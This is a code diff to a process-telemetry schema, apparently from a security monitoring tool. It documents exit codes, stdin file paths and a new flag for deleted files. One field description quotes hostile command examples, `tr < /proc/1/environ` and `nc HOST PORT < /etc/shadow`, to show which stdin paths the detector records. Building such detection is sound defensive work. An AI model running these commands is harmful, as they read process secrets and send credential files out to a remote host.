@@ -172,7 +172,7 @@ export const Process = Obj(
     working_directory: Opt(Str('Current working directory.')),
     start: Opt(Timestamp('When the process started.')),
     end: Opt(Timestamp('When the process exited (exit events).')),
-    exit_code: Opt(Int('Exit status (0-255), or 128 plus the signal number when killed by a signal.')),
+    exit_code: Opt(Int('Exit status (0-255), or 128 plus the signal number when killed by a signal: the status of the process\'s last thread to end (a process outlives a main thread that ended first). Absent, and listed in hades.missing, when the cn_proc backend lost that thread\'s exit message and saw the end in /proc instead.')),
     interactive: Opt(Type.Boolean({ description: 'True when the process has a controlling terminal.' })),
     thread: Opt(
       Obj(
@@ -225,7 +225,8 @@ export const StdioStream = Obj(
   {
     type: Words(['tty', 'pipe', 'socket', 'file', 'char_device', 'none', 'other', 'unknown'], 'What the descriptor refers to.'),
     inode: Opt(Count('Inode number: of the file, or of the pipe or socket (the object the two ends share).')),
-    path: Opt(Str('Standard input only: the path of the file on it (`tr < /proc/1/environ`, `nc HOST PORT < /etc/shadow`), which no argument names; read when the process executed (cn_proc: from /proc, when it is still there).')),
+    path: Opt(Str('Standard input only: the path of the file on it (`tr < /proc/1/environ`, `nc HOST PORT < /etc/shadow`), which no argument names; read when the process executed (cn_proc: from /proc, when it is still there). A file deleted since it was opened has the path it had (and deleted).')),
+    deleted: Opt(Type.Boolean({ description: 'Standard input only, with path: true when the file had been deleted (no name left) when the process executed: path is the one it had.' })),
     socket: Opt(
       Obj(
         {
